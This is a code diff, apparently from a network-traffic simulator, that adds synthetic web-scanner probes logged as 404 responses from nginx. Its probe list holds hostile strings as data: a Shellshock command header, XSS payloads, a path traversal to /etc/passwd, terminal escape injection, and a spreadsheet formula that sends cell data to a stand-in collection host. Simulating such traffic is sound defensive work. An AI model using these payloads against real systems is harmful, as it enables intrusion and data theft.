@@ -63,6 +63,38 @@ export const webServer: Habit = (desk, shift, random) => {
   }
 };
 
+/** What the Internet sends to any open port: requests meant for other people's programs, and for whoever reads the log. */
+const probes = [
+  { path: '/wp-login.php', agent: 'Mozilla/5.0 zgrab/0.x' },
+  { path: '/cgi-bin/status', agent: '() { :; }; /bin/sh -c id' },
+  { path: '/?q=<script>alert(1)</script>', agent: '"><img src=x onerror=alert(1)>' },
+  { path: '/.env', agent: '=HYPERLINK("http://collect.example/?c="&A1)' },
+  { path: '/index.php?lang=../../../../etc/passwd', agent: '\\x1b]0;owned\\x07\\x1b[31mscan' },
+];
+
+export const strangers: Habit = (desk, shift, random) => {
+  if (desk.device.role !== 'web') return;
+  const nginx = desk.running(programs.nginx);
+  for (const at of moments(shift, random, 0.25)) {
+    desk.serve(nginx, random.pick(visitors), {
+      at,
+      lasting: random.int(40, 900) * 1_000,
+      sent: 590,
+      received: random.int(160, 420),
+      port: 80,
+      as: 'http',
+      http: {
+        method: 'GET',
+        ...random.pick(probes),
+        requestBody: 0,
+        responseBody: 153,
+        type: 'text/html',
+        status: 404,
+      },
+    });
+  }
+};
+
 /** A printer, a storage box and a screen, none of which carries a sensor. */
 export const things: Habit = (desk, shift, random) => {
   if (desk.device.role !== 'thing') return;
